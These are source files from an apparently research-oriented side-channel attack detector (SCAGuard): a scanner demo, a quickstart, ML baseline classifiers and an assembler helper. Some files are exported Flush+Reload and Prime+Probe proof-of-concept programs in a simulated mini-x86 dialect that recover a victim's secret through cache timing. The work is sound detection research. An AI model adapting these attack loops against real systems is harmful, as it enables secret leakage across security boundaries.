// The .s dialect is the library's assembler syntax (see isa/assembler.h),
// e.g.:
//     loop:
//       clflush [rax]
//       ...
//       jne loop
//       hlt
#include <cstdio>
#include <fstream>
#include <sstream>

#include "attacks/registry.h"
#include "benign/registry.h"
#include "core/batch_detector.h"
#include "core/detector.h"
#include "eval/experiments.h"
#include "isa/assembler.h"
#include "mutation/mutator.h"
#include "support/strings.h"
#include "support/table.h"

using namespace scag;

namespace {

/// The installation queue: programs are collected first, then scanned in
/// one shot through the parallel batch engine.
struct Queue {
  std::vector<std::string> names;
  std::vector<isa::Program> programs;

  void add(std::string name, isa::Program program) {
    names.push_back(std::move(name));
    programs.push_back(std::move(program));
  }
};

void scan_and_report(const core::Detector& detector, const Queue& queue,
                     Table& report) {
  // All queued programs are modeled and compared concurrently; the
  // Detections are bit-identical to serial Detector::scan calls.
  const core::BatchDetector batch(detector, core::BatchConfig{});
  std::printf("Scanning %zu program(s) on %zu thread(s)...\n",
              queue.programs.size(), batch.threads());
  const std::vector<core::Detection> detections =
      batch.scan_programs(queue.programs);
  for (std::size_t i = 0; i < detections.size(); ++i) {
    const core::Detection& det = detections[i];
    std::string best = "-";
    if (!det.scores.empty())
      best = det.scores.front().model_name + " @ " + pct(det.best_score);
    report.row({queue.names[i], det.is_attack() ? "ATTACK" : "admit",
                std::string(core::family_abbrev(det.verdict)), best});
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::puts("Building the attack-model repository (one PoC per family)...");
  const core::Detector detector = eval::make_scaguard(
      {core::Family::kFlushReload, core::Family::kPrimeProbe,
       core::Family::kSpectreFR, core::Family::kSpectrePP});
  for (const core::AttackModel& m : detector.repository())
    std::printf("  enrolled %-24s (%s, %zu-element CST-BBS)\n",
                m.name.c_str(),
                std::string(core::family_abbrev(m.family)).c_str(),
                m.sequence.size());

  Table report("\nScan report");
  report.header({"Program", "Verdict", "Family", "Best match"});

  if (argc > 1) {
    Queue queue;
    for (int i = 1; i < argc; ++i) {
      std::ifstream in(argv[i]);
      if (!in) {
        std::fprintf(stderr, "cannot open %s\n", argv[i]);
        return 1;
      }
      std::stringstream ss;
      ss << in.rdbuf();
      try {
        queue.add(argv[i], isa::assemble(ss.str(), argv[i]));
      } catch (const isa::AsmError& e) {
        std::fprintf(stderr, "%s: %s\n", argv[i], e.what());
        return 1;
      }
    }
    scan_and_report(detector, queue, report);
    report.print();
    return 0;
  }

  // Demo queue: disguised attack variants mixed with legitimate software.
  std::puts("\nScanning the demo installation queue...");
  Rng rng(20260704);

  attacks::PocConfig config;
  config.secret = 1 + rng.below(15);

  Queue queue;
  {  // A mutated Evict+Reload nobody enrolled.
    Rng mut = rng.split();
    queue.add("update-helper (ER mutant)",
              mutation::mutate(attacks::er_iaik(config), mut));
  }
  {  // An obfuscated Prime+Probe.
    Rng mut = rng.split();
    queue.add("telemetry-agent (PP obfusc.)",
              mutation::obfuscate(attacks::pp_jzhang(config), mut));
  }
  {  // A Spectre variant.
    Rng mut = rng.split();
    queue.add("codec-plugin (Spectre-FR)",
              mutation::mutate(attacks::spectre_fr_good(config), mut));
  }
  // Legitimate software, including the hard cases.
  const char* legit[] = {"aes-ttables", "hashtable-server", "timed-lookup",
                         "flush-writeback", "matmul"};
  for (const char* name : legit) {
    for (const auto& spec : benign::all_benign_templates()) {
      if (spec.name != name) continue;
      Rng gen = rng.split();
      queue.add(name, spec.build(gen));
    }
  }
  scan_and_report(detector, queue, report);
  report.print();
  std::puts("\n(ATTACK = similarity above the 45% threshold; admit = below.)");
  return 0;
}
