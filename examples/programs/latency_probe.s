; A benign cache-latency microbenchmark: times individual loads and logs
; them. Counter-profile-wise it looks attack-ish (rdtscp + loads), but it
; has no prepare/probe structure across blocks, so SCAGuard admits it.
.entry main
main:
  mov rcx, 100
  mov r10, 1
probe:
  imul r10, 6364136223846793005
  add r10, 12345
  mov rbx, r10
  shr rbx, 23
  and rbx, 255
  shl rbx, 6
  rdtscp r8
  mov rax, [rbx+0xb8000000]
  rdtscp r9
  sub r9, r8
  mov [rcx*8+0xba000000], r9
  dec rcx
  jne probe
  hlt
