; exported from program 'PP-Jzhang'
.word 0x20000000 0x7
.entry main
main:
  xor r15, r15
  mov rcx, 4
round_loop:
  mov rdi, 0
prime_slot_loop:
  mov rax, rdi   ; attack-relevant
  shl rax, 11   ; attack-relevant
  lea rsi, [rax+1073750016]   ; attack-relevant
  mov rdx, 0   ; attack-relevant
prime_way_loop:
  mov r11, rdx   ; attack-relevant
  and r11, 15   ; attack-relevant
  shl r11, 16   ; attack-relevant
  mov rbx, [rsi+r11]   ; attack-relevant
  mov rbx, [rsi+r11+65536]   ; attack-relevant
  mov rbx, [rsi+r11+131072]   ; attack-relevant
  mov rbx, [rsi+r11+196608]   ; attack-relevant
  add rdx, 4   ; attack-relevant
  cmp rdx, 16   ; attack-relevant
  jl prime_way_loop   ; attack-relevant
  inc rdi
  cmp rdi, 16
  jl prime_slot_loop
  lfence
  lea rsi, [1073750016]
  rdtscp r8
  mov rdx, 0
calib_way_loop:
  mov r11, rdx
  and r11, 15
  shl r11, 16
  mov rbx, [rsi+r11]
  inc rdx
  cmp rdx, 16
  jl calib_way_loop
  rdtscp r9
  sub r9, r8
  mov [805307384], r9
  call victim
  mov rdi, 0
probe_slot_loop:
  mov rax, rdi   ; attack-relevant
  shl rax, 11   ; attack-relevant
  lea rsi, [rax+1073750016]   ; attack-relevant
  mov r10, 0   ; attack-relevant
  mov rdx, 0   ; attack-relevant
probe_way_loop:
  mov r11, rdx   ; attack-relevant
  and r11, 15   ; attack-relevant
  shl r11, 16   ; attack-relevant
  rdtscp r8   ; attack-relevant
  mov rbx, [rsi+r11]   ; attack-relevant
  rdtscp r9   ; attack-relevant
  sub r9, r8   ; attack-relevant
  add r10, r9   ; attack-relevant
  inc rdx   ; attack-relevant
  cmp rdx, 16   ; attack-relevant
  jl probe_way_loop   ; attack-relevant
  mov [r15+rdi*8+805307392], r10   ; attack-relevant
  inc rdi
  cmp rdi, 16
  jl probe_slot_loop
  mov rdi, 0
  mov rbx, -1
  mov rdx, 0
roundmax_loop:
  mov rax, [r15+rdi*8+805307392]
  cmp rax, rbx
  jle roundmax_next
  mov rbx, rax
  mov rdx, rdi
roundmax_next:
  inc rdi
  cmp rdi, 16
  jl roundmax_loop
  mov rax, [r15+rdx*8+805306368]
  inc rax
  mov [r15+rdx*8+805306368], rax
  dec rcx
  jne round_loop
  mov rdi, 0
  mov rbx, -1
  mov rdx, 0
argmax_loop:
  mov rax, [r15+rdi*8+805306368]
  cmp rax, rbx
  jle argmax_next
  mov rbx, rax
  mov rdx, rdi
argmax_next:
  inc rdi
  cmp rdi, 16
  jl argmax_loop
  mov [805308416], rdx
  hlt
victim:
  mov rax, [536870912]   ; attack-relevant
  imul rax, 2048   ; attack-relevant
  mov rbx, [rax+1610620928]   ; attack-relevant
  ret
