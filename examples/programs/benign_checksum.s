; A benign rolling-checksum loop over a buffer. Scans as benign:
;   scagctl scan <repo> examples/programs/benign_checksum.s
.entry main
main:
  mov rcx, 300
  mov r8, 0
scan:
  mov rax, [rcx*8+0x90000000]
  imul r8, 31
  add r8, rax
  dec rcx
  jne scan
  mov [0x91000000], r8
  hlt
