; exported from program 'FR-IAIK'
.word 0x20000000 0x7
.entry main
main:
  xor r15, r15
  mov rcx, 4
round_loop:
  mov rdi, 0
  lea rsi, [268443648]
flush_loop:
  clflush [rsi]   ; attack-relevant
  add rsi, 2048   ; attack-relevant
  inc rdi   ; attack-relevant
  cmp rdi, 16   ; attack-relevant
  jl flush_loop   ; attack-relevant
  mfence
  call victim
  mov rdi, 0
reload_loop:
  mov rax, rdi   ; attack-relevant
  imul rax, 2048   ; attack-relevant
  lea rsi, [rax+268443648]   ; attack-relevant
  rdtscp r8   ; attack-relevant
  mov rbx, [rsi]   ; attack-relevant
  rdtscp r9   ; attack-relevant
  sub r9, r8   ; attack-relevant
  cmp r9, 100   ; attack-relevant
  jge reload_next   ; attack-relevant
  mov rax, [r15+rdi*8+805306368]   ; attack-relevant
  inc rax   ; attack-relevant
  mov [r15+rdi*8+805306368], rax   ; attack-relevant
reload_next:
  inc rdi   ; attack-relevant
  cmp rdi, 16   ; attack-relevant
  jl reload_loop   ; attack-relevant
  dec rcx
  jne round_loop
  mov rdi, 0
  mov rbx, -1
  mov rdx, 0
argmax_loop:
  mov rax, [r15+rdi*8+805306368]
  cmp rax, rbx
  jle argmax_next
  mov rbx, rax
  mov rdx, rdi
argmax_next:
  inc rdi
  cmp rdi, 16
  jl argmax_loop
  mov [805308416], rdx
  hlt
victim:
  mov rax, [536870912]   ; attack-relevant
  imul rax, 2048   ; attack-relevant
  mov rbx, [rax+268443648]   ; attack-relevant
  ret
