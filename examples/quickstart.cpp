// Quickstart: the SCAGuard pipeline end to end in ~80 lines.
//
//   1. build a Flush+Reload PoC and watch it steal a secret through the
//      cache timing channel of the simulated CPU;
//   2. build its CST-BBS attack behavior model;
//   3. compare it against a *different* Flush+Reload implementation and
//      against a benign program;
//   4. let the Detector render a verdict.
//
//   $ ./build/examples/quickstart
#include <cstdio>

#include "attacks/registry.h"
#include "benign/registry.h"
#include "core/detector.h"
#include "cpu/interpreter.h"
#include "eval/experiments.h"
#include "support/strings.h"

using namespace scag;

int main() {
  // -- 1. The attack actually works in the simulator. ----------------------
  attacks::PocConfig config;
  config.secret = 13;  // the victim's secret nibble
  const isa::Program poc = attacks::fr_iaik(config);

  cpu::Interpreter interp;
  const cpu::RunResult run = interp.run(poc);
  const std::uint64_t stolen = run.memory.read(config.layout.recovered_addr);
  std::printf("victim secret = %llu, Flush+Reload recovered = %llu  (%s)\n",
              static_cast<unsigned long long>(config.secret),
              static_cast<unsigned long long>(stolen),
              stolen == config.secret ? "attack works" : "attack failed");

  // -- 2. Model the attack behavior as a CST-BBS. ---------------------------
  const core::ModelBuilder builder(eval::experiment_model_config());
  core::ModelArtifacts artifacts;
  const core::AttackModel model =
      builder.build(poc, core::Family::kFlushReload, &artifacts);

  std::printf(
      "\nCST-BBS model of %s: %zu blocks total, %zu potential, %zu "
      "attack-relevant\n",
      poc.name().c_str(), artifacts.num_blocks, artifacts.potential.size(),
      artifacts.relevant.size());
  for (const core::CstBbsElement& e : model.sequence) {
    std::string tokens = join(e.sem_tokens, " ");
    std::printf("  BB%-3u @cycle %-6llu  P=%.3f  [%s]\n", e.block,
                static_cast<unsigned long long>(e.first_cycle - 1),
                e.cst.change(), tokens.c_str());
  }

  // -- 3. Similarity against other programs. --------------------------------
  const core::DtwConfig dtw = eval::experiment_dtw_config();
  const core::AttackModel other = builder.build(
      attacks::fr_mastik(config), core::Family::kFlushReload);
  Rng rng(1);
  const core::AttackModel benign =
      builder.build(benign::aes_ttables(rng), core::Family::kBenign);

  std::printf("\nsimilarity(FR-IAIK, FR-Mastik)   = %s\n",
              pct(core::similarity(model.sequence, other.sequence, dtw)).c_str());
  std::printf("similarity(FR-IAIK, benign AES)  = %s\n",
              pct(core::similarity(model.sequence, benign.sequence, dtw)).c_str());

  // -- 4. Detection. ----------------------------------------------------------
  core::Detector detector(eval::experiment_model_config(), dtw,
                          eval::kThreshold);
  detector.enroll(poc, core::Family::kFlushReload);

  for (const auto& [name, program] :
       {std::pair<std::string, isa::Program>{"FR-Mastik (unseen variant)",
                                             attacks::fr_mastik(config)},
        std::pair<std::string, isa::Program>{"benign AES kernel",
                                             benign::aes_ttables(rng)}}) {
    const core::Detection det = detector.scan(program);
    std::printf("scan(%-26s) -> %-20s best score %s\n", name.c_str(),
                std::string(core::family_name(det.verdict)).c_str(),
                pct(det.best_score).c_str());
  }
  return 0;
}
