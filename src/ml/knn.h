// K-nearest-neighbors classifier (Euclidean), backing KNN-MLFM.
#pragma once

#include "ml/linear.h"

namespace scag::ml {

class Knn : public Classifier {
 public:
  explicit Knn(int k = 5) : k_(k) {}
  void fit(const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
           int num_classes, Rng& rng) override;
  int predict(const FeatureVector& x) const override;

  int k() const { return k_; }

 private:
  int k_;
  int num_classes_ = 0;
  std::vector<FeatureVector> xs_;
  std::vector<int> ys_;
};

}  // namespace scag::ml
