#include "ml/features.h"

#include <algorithm>
#include <cmath>

#include "support/stats.h"

namespace scag::ml {

namespace {
// Per event: mean, stddev, max of per-interval deltas, plus whole-run rate.
constexpr std::size_t kPerEvent = 4;
constexpr std::size_t kGlobal = 2;  // instructions-per-cycle, sample count
}  // namespace

std::size_t feature_dim() {
  return trace::kNumHpcEvents * kPerEvent + kGlobal;
}

FeatureVector extract_features(const trace::ExecutionProfile& profile) {
  FeatureVector out;
  out.reserve(feature_dim());

  const double cycles = std::max<double>(1.0, static_cast<double>(profile.cycles));

  for (std::size_t e = 0; e < trace::kNumHpcEvents; ++e) {
    std::vector<double> deltas;
    deltas.reserve(profile.samples.size());
    std::uint64_t prev = 0;
    for (const trace::HpcCounters& snap : profile.samples) {
      const std::uint64_t cur = snap.counts[e];
      deltas.push_back(static_cast<double>(cur - prev));
      prev = cur;
    }
    const Summary s = summarize(deltas);
    out.push_back(s.mean);
    out.push_back(s.stddev);
    out.push_back(s.max);
    // Whole-run rate per kilo-cycle (robust to run length).
    out.push_back(1000.0 * static_cast<double>(profile.totals.counts[e]) /
                  cycles);
  }
  out.push_back(static_cast<double>(profile.retired) / cycles);
  out.push_back(static_cast<double>(profile.samples.size()));
  return out;
}

void Standardizer::fit(const std::vector<FeatureVector>& xs) {
  if (xs.empty()) return;
  const std::size_t d = xs[0].size();
  mean_.assign(d, 0.0);
  scale_.assign(d, 1.0);
  for (const FeatureVector& x : xs)
    for (std::size_t i = 0; i < d; ++i) mean_[i] += x[i];
  for (double& m : mean_) m /= static_cast<double>(xs.size());
  std::vector<double> var(d, 0.0);
  for (const FeatureVector& x : xs)
    for (std::size_t i = 0; i < d; ++i)
      var[i] += (x[i] - mean_[i]) * (x[i] - mean_[i]);
  for (std::size_t i = 0; i < d; ++i) {
    const double sd = std::sqrt(var[i] / static_cast<double>(xs.size()));
    scale_[i] = sd > 1e-12 ? sd : 1.0;
  }
}

FeatureVector Standardizer::transform(const FeatureVector& x) const {
  if (mean_.empty()) return x;
  FeatureVector out(x.size());
  for (std::size_t i = 0; i < x.size(); ++i)
    out[i] = (x[i] - mean_[i]) / scale_[i];
  return out;
}

std::vector<FeatureVector> Standardizer::transform_all(
    const std::vector<FeatureVector>& xs) const {
  std::vector<FeatureVector> out;
  out.reserve(xs.size());
  for (const FeatureVector& x : xs) out.push_back(transform(x));
  return out;
}

}  // namespace scag::ml
