#include "ml/crossval.h"

#include <numeric>
#include <stdexcept>

namespace scag::ml {

double kfold_accuracy(
    const std::function<std::unique_ptr<Classifier>()>& make_model,
    const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
    int num_classes, int folds, Rng& rng) {
  if (folds < 2) throw std::invalid_argument("kfold_accuracy: folds < 2");
  std::vector<std::size_t> order(xs.size());
  std::iota(order.begin(), order.end(), 0);
  rng.shuffle(order);

  std::size_t correct = 0, total = 0;
  for (int f = 0; f < folds; ++f) {
    std::vector<FeatureVector> train_x, test_x;
    std::vector<int> train_y, test_y;
    for (std::size_t i = 0; i < order.size(); ++i) {
      const std::size_t idx = order[i];
      if (static_cast<int>(i % static_cast<std::size_t>(folds)) == f) {
        test_x.push_back(xs[idx]);
        test_y.push_back(ys[idx]);
      } else {
        train_x.push_back(xs[idx]);
        train_y.push_back(ys[idx]);
      }
    }
    if (train_x.empty() || test_x.empty()) continue;
    auto model = make_model();
    Rng fold_rng = rng.split();
    model->fit(train_x, train_y, num_classes, fold_rng);
    for (std::size_t i = 0; i < test_x.size(); ++i) {
      if (model->predict(test_x[i]) == test_y[i]) ++correct;
      ++total;
    }
  }
  return total == 0 ? 0.0 : static_cast<double>(correct) /
                                static_cast<double>(total);
}

std::unique_ptr<Classifier> select_and_train(
    const std::vector<std::function<std::unique_ptr<Classifier>()>>& candidates,
    const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
    int num_classes, int folds, Rng& rng) {
  if (candidates.empty())
    throw std::invalid_argument("select_and_train: no candidates");
  double best_acc = -1.0;
  std::size_t best = 0;
  for (std::size_t c = 0; c < candidates.size(); ++c) {
    Rng cv_rng = rng.split();
    const double acc =
        kfold_accuracy(candidates[c], xs, ys, num_classes, folds, cv_rng);
    if (acc > best_acc) {
      best_acc = acc;
      best = c;
    }
  }
  auto model = candidates[best]();
  model->fit(xs, ys, num_classes, rng);
  return model;
}

}  // namespace scag::ml
