// HPC time-series feature extraction for the learning-based baselines
// (SVM-NW, LR-NW, KNN-MLFM). NIGHTs-WATCH-style detectors sample the HPCs
// periodically while the program runs and classify the resulting feature
// vector; we extract, per Table-I event, summary statistics of the
// per-interval deltas plus whole-run rates.
#pragma once

#include <vector>

#include "trace/profile.h"

namespace scag::ml {

using FeatureVector = std::vector<double>;

/// Features from a sampled execution profile. Requires the profile to have
/// been collected with a nonzero sample_interval; a profile with no samples
/// yields whole-run rates only (padded to the same dimensionality).
FeatureVector extract_features(const trace::ExecutionProfile& profile);

/// Dimensionality of extract_features' output.
std::size_t feature_dim();

/// Z-score standardization fitted on a training set.
class Standardizer {
 public:
  void fit(const std::vector<FeatureVector>& xs);
  FeatureVector transform(const FeatureVector& x) const;
  std::vector<FeatureVector> transform_all(
      const std::vector<FeatureVector>& xs) const;

 private:
  FeatureVector mean_;
  FeatureVector scale_;
};

}  // namespace scag::ml
