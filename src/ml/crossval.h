// K-fold cross-validation and small grid search: the paper trains the
// learning baselines with "10-fold cross validation to obtain the best
// model with the fine-tuned parameters".
#pragma once

#include <functional>
#include <memory>

#include "ml/knn.h"
#include "ml/linear.h"

namespace scag::ml {

/// Mean accuracy of `make_model()` over k folds.
double kfold_accuracy(
    const std::function<std::unique_ptr<Classifier>()>& make_model,
    const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
    int num_classes, int folds, Rng& rng);

/// Picks the best candidate by k-fold accuracy, then refits it on ALL data.
/// `candidates` are factories for differently-parameterized models.
std::unique_ptr<Classifier> select_and_train(
    const std::vector<std::function<std::unique_ptr<Classifier>()>>& candidates,
    const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
    int num_classes, int folds, Rng& rng);

}  // namespace scag::ml
