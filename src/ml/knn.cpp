#include "ml/knn.h"

#include <algorithm>
#include <stdexcept>

namespace scag::ml {

void Knn::fit(const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
              int num_classes, Rng& /*rng*/) {
  if (xs.size() != ys.size() || xs.empty())
    throw std::invalid_argument("Knn::fit: bad training set");
  xs_ = xs;
  ys_ = ys;
  num_classes_ = num_classes;
}

int Knn::predict(const FeatureVector& x) const {
  const std::size_t k =
      std::min<std::size_t>(static_cast<std::size_t>(k_), xs_.size());
  // Partial selection of the k smallest squared distances.
  std::vector<std::pair<double, int>> dist;
  dist.reserve(xs_.size());
  for (std::size_t i = 0; i < xs_.size(); ++i) {
    double d2 = 0.0;
    for (std::size_t j = 0; j < x.size(); ++j) {
      const double diff = x[j] - xs_[i][j];
      d2 += diff * diff;
    }
    dist.emplace_back(d2, ys_[i]);
  }
  std::partial_sort(dist.begin(), dist.begin() + static_cast<std::ptrdiff_t>(k),
                    dist.end());
  std::vector<int> votes(static_cast<std::size_t>(num_classes_), 0);
  for (std::size_t i = 0; i < k; ++i) ++votes[static_cast<std::size_t>(dist[i].second)];
  return static_cast<int>(
      std::max_element(votes.begin(), votes.end()) - votes.begin());
}

}  // namespace scag::ml
