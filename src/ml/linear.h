// Linear classifiers trained from scratch: a Pegasos-style SGD linear SVM
// and logistic regression, each wrapped into one-vs-rest multiclass form.
// These back the SVM-NW and LR-NW baselines of the paper's Table VI.
#pragma once

#include <cstdint>
#include <vector>

#include "ml/features.h"
#include "support/rng.h"

namespace scag::ml {

/// Common multiclass interface.
class Classifier {
 public:
  virtual ~Classifier() = default;
  /// Trains on standardized features with labels in [0, num_classes).
  virtual void fit(const std::vector<FeatureVector>& xs,
                   const std::vector<int>& ys, int num_classes, Rng& rng) = 0;
  virtual int predict(const FeatureVector& x) const = 0;
};

struct LinearConfig {
  double lambda = 1e-4;   // regularization (SVM) / L2 (logreg)
  double lr = 0.05;       // base learning rate (logreg)
  std::uint32_t epochs = 40;
};

/// One-vs-rest linear SVM trained with Pegasos (hinge loss, SGD).
class LinearSvm : public Classifier {
 public:
  explicit LinearSvm(LinearConfig config = {}) : config_(config) {}
  void fit(const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
           int num_classes, Rng& rng) override;
  int predict(const FeatureVector& x) const override;
  /// Decision margin of class c (for tests/inspection).
  double margin(const FeatureVector& x, int c) const;

 private:
  LinearConfig config_;
  std::vector<FeatureVector> w_;  // one weight vector per class
  std::vector<double> b_;
};

/// One-vs-rest ordinary linear regression (least squares on +/-1 targets,
/// SGD). This is the weak "regression as classifier" the NIGHTs-WATCH
/// paper used for its LR variant — noticeably less robust than the SVM.
class LinearRegressionClassifier : public Classifier {
 public:
  explicit LinearRegressionClassifier(LinearConfig config = {})
      : config_(config) {}
  void fit(const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
           int num_classes, Rng& rng) override;
  int predict(const FeatureVector& x) const override;
  /// Raw regression output for class c.
  double score(const FeatureVector& x, int c) const;

 private:
  LinearConfig config_;
  std::vector<FeatureVector> w_;
  std::vector<double> b_;
};

/// One-vs-rest logistic regression with SGD.
class LogisticRegression : public Classifier {
 public:
  explicit LogisticRegression(LinearConfig config = {}) : config_(config) {}
  void fit(const std::vector<FeatureVector>& xs, const std::vector<int>& ys,
           int num_classes, Rng& rng) override;
  int predict(const FeatureVector& x) const override;
  /// P(class c | x).
  double probability(const FeatureVector& x, int c) const;

 private:
  LinearConfig config_;
  std::vector<FeatureVector> w_;
  std::vector<double> b_;
};

}  // namespace scag::ml
