#include "ml/linear.h"

#include <cmath>
#include <numeric>
#include <stdexcept>

namespace scag::ml {

namespace {

double dot(const FeatureVector& a, const FeatureVector& b) {
  double s = 0.0;
  for (std::size_t i = 0; i < a.size(); ++i) s += a[i] * b[i];
  return s;
}

void check_inputs(const std::vector<FeatureVector>& xs,
                  const std::vector<int>& ys, int num_classes) {
  if (xs.size() != ys.size())
    throw std::invalid_argument("fit: xs/ys size mismatch");
  if (xs.empty()) throw std::invalid_argument("fit: empty training set");
  for (int y : ys)
    if (y < 0 || y >= num_classes)
      throw std::invalid_argument("fit: label out of range");
}

}  // namespace

void LinearSvm::fit(const std::vector<FeatureVector>& xs,
                    const std::vector<int>& ys, int num_classes, Rng& rng) {
  check_inputs(xs, ys, num_classes);
  const std::size_t d = xs[0].size();
  w_.assign(num_classes, FeatureVector(d, 0.0));
  b_.assign(num_classes, 0.0);

  std::vector<std::size_t> order(xs.size());
  std::iota(order.begin(), order.end(), 0);

  for (int c = 0; c < num_classes; ++c) {
    FeatureVector& w = w_[c];
    double& b = b_[c];
    std::size_t t = 0;
    for (std::uint32_t epoch = 0; epoch < config_.epochs; ++epoch) {
      rng.shuffle(order);
      for (std::size_t idx : order) {
        ++t;
        const double eta = 1.0 / (config_.lambda * static_cast<double>(t));
        const double y = ys[idx] == c ? 1.0 : -1.0;
        const double score = dot(w, xs[idx]) + b;
        // Pegasos update: shrink, then step on margin violations.
        const double shrink = 1.0 - eta * config_.lambda;
        for (double& wi : w) wi *= shrink;
        if (y * score < 1.0) {
          for (std::size_t i = 0; i < d; ++i) w[i] += eta * y * xs[idx][i];
          b += eta * y;
        }
      }
    }
  }
}

int LinearSvm::predict(const FeatureVector& x) const {
  int best = 0;
  double best_score = -1e300;
  for (std::size_t c = 0; c < w_.size(); ++c) {
    const double s = dot(w_[c], x) + b_[c];
    if (s > best_score) {
      best_score = s;
      best = static_cast<int>(c);
    }
  }
  return best;
}

double LinearSvm::margin(const FeatureVector& x, int c) const {
  return dot(w_.at(c), x) + b_.at(c);
}

void LinearRegressionClassifier::fit(const std::vector<FeatureVector>& xs,
                                     const std::vector<int>& ys,
                                     int num_classes, Rng& rng) {
  check_inputs(xs, ys, num_classes);
  const std::size_t d = xs[0].size();
  w_.assign(num_classes, FeatureVector(d, 0.0));
  b_.assign(num_classes, 0.0);

  std::vector<std::size_t> order(xs.size());
  std::iota(order.begin(), order.end(), 0);

  for (int cls = 0; cls < num_classes; ++cls) {
    FeatureVector& w = w_[cls];
    double& b = b_[cls];
    for (std::uint32_t epoch = 0; epoch < config_.epochs; ++epoch) {
      rng.shuffle(order);
      const double eta =
          config_.lr / (1.0 + 0.2 * static_cast<double>(epoch));
      for (std::size_t idx : order) {
        const double y = ys[idx] == cls ? 1.0 : -1.0;
        const double err = (dot(w, xs[idx]) + b) - y;  // squared loss
        for (std::size_t i = 0; i < d; ++i)
          w[i] -= eta * (err * xs[idx][i] + config_.lambda * w[i]);
        b -= eta * err;
      }
    }
  }
}

int LinearRegressionClassifier::predict(const FeatureVector& x) const {
  int best = 0;
  double best_score = -1e300;
  for (std::size_t c = 0; c < w_.size(); ++c) {
    const double s = dot(w_[c], x) + b_[c];
    if (s > best_score) {
      best_score = s;
      best = static_cast<int>(c);
    }
  }
  return best;
}

double LinearRegressionClassifier::score(const FeatureVector& x, int c) const {
  return dot(w_.at(c), x) + b_.at(c);
}

void LogisticRegression::fit(const std::vector<FeatureVector>& xs,
                             const std::vector<int>& ys, int num_classes,
                             Rng& rng) {
  check_inputs(xs, ys, num_classes);
  const std::size_t d = xs[0].size();
  w_.assign(num_classes, FeatureVector(d, 0.0));
  b_.assign(num_classes, 0.0);

  std::vector<std::size_t> order(xs.size());
  std::iota(order.begin(), order.end(), 0);

  for (int c = 0; c < num_classes; ++c) {
    FeatureVector& w = w_[c];
    double& b = b_[c];
    for (std::uint32_t epoch = 0; epoch < config_.epochs; ++epoch) {
      rng.shuffle(order);
      const double eta =
          config_.lr / (1.0 + 0.1 * static_cast<double>(epoch));
      for (std::size_t idx : order) {
        const double y = ys[idx] == c ? 1.0 : 0.0;
        const double z = dot(w, xs[idx]) + b;
        const double p = 1.0 / (1.0 + std::exp(-z));
        const double g = p - y;
        for (std::size_t i = 0; i < d; ++i)
          w[i] -= eta * (g * xs[idx][i] + config_.lambda * w[i]);
        b -= eta * g;
      }
    }
  }
}

int LogisticRegression::predict(const FeatureVector& x) const {
  int best = 0;
  double best_p = -1.0;
  for (std::size_t c = 0; c < w_.size(); ++c) {
    const double p = probability(x, static_cast<int>(c));
    if (p > best_p) {
      best_p = p;
      best = static_cast<int>(c);
    }
  }
  return best;
}

double LogisticRegression::probability(const FeatureVector& x, int c) const {
  const double z = dot(w_.at(c), x) + b_.at(c);
  return 1.0 / (1.0 + std::exp(-z));
}

}  // namespace scag::ml
