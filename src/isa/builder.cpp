#include "isa/builder.h"

#include <stdexcept>

#include "support/strings.h"

namespace scag::isa {

ProgramBuilder::ProgramBuilder(std::string name, std::uint64_t code_base)
    : program_(std::move(name), code_base) {}

ProgramBuilder& ProgramBuilder::label(const std::string& name) {
  auto [it, inserted] =
      program_.labels().emplace(name, program_.address_of(program_.size()));
  (void)it;
  if (!inserted)
    throw std::invalid_argument("ProgramBuilder: duplicate label " + name);
  return *this;
}

ProgramBuilder& ProgramBuilder::emit(Opcode op, Operand dst, Operand src) {
  if (is_control_flow(op) && op != Opcode::kRet)
    throw std::invalid_argument(
        "ProgramBuilder::emit: use branch() for control flow");
  Instruction insn;
  insn.op = op;
  insn.dst = dst;
  insn.src = src;
  const std::uint64_t addr = program_.append(insn);
  if (marking_) program_.relevant_marks().insert(addr);
  return *this;
}

ProgramBuilder& ProgramBuilder::branch(Opcode op, const std::string& target) {
  if (!is_control_flow(op) || op == Opcode::kRet)
    throw std::invalid_argument("ProgramBuilder::branch: not a branch opcode");
  Instruction insn;
  insn.op = op;
  fixups_.push_back({program_.size(), target});
  const std::uint64_t addr = program_.append(insn);
  if (marking_) program_.relevant_marks().insert(addr);
  return *this;
}

ProgramBuilder& ProgramBuilder::data_word(std::uint64_t addr,
                                          std::uint64_t value) {
  program_.initial_data()[addr] = value;
  return *this;
}

ProgramBuilder& ProgramBuilder::data_region(std::uint64_t addr,
                                            std::uint64_t bytes,
                                            std::uint64_t fill_word) {
  for (std::uint64_t a = addr; a < addr + bytes; a += 8)
    program_.initial_data()[a] = fill_word;
  return *this;
}

ProgramBuilder& ProgramBuilder::mark_relevant(bool enabled) {
  marking_ = enabled;
  return *this;
}

ProgramBuilder& ProgramBuilder::relevant(Opcode op, Operand dst, Operand src) {
  const bool prev = marking_;
  marking_ = true;
  emit(op, dst, src);
  marking_ = prev;
  return *this;
}

ProgramBuilder& ProgramBuilder::entry(const std::string& label_name) {
  entry_label_ = label_name;
  return *this;
}

Program ProgramBuilder::build() {
  if (built_) throw std::logic_error("ProgramBuilder::build: already built");
  built_ = true;
  for (const auto& fix : fixups_) {
    auto it = program_.labels().find(fix.label);
    if (it == program_.labels().end())
      throw std::runtime_error("ProgramBuilder: undefined label " + fix.label);
    program_.at(fix.instr_index).target = it->second;
  }
  if (!entry_label_.empty()) {
    program_.set_entry(program_.label(entry_label_));
  } else {
    program_.set_entry(program_.code_base());
  }
  program_.validate();
  return std::move(program_);
}

}  // namespace scag::isa
