// General-purpose registers of the mini-x86 ISA.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

namespace scag::isa {

/// The 16 general-purpose registers of x86-64. The interpreter treats them
/// all as 64-bit; sub-register aliasing is not modeled because the detector
/// normalizes registers away anyway (Section III-B1 of the paper).
enum class Reg : std::uint8_t {
  RAX, RBX, RCX, RDX, RSI, RDI, RBP, RSP,
  R8, R9, R10, R11, R12, R13, R14, R15,
  kCount,
};

inline constexpr std::size_t kNumRegs = static_cast<std::size_t>(Reg::kCount);

constexpr std::string_view reg_name(Reg r) {
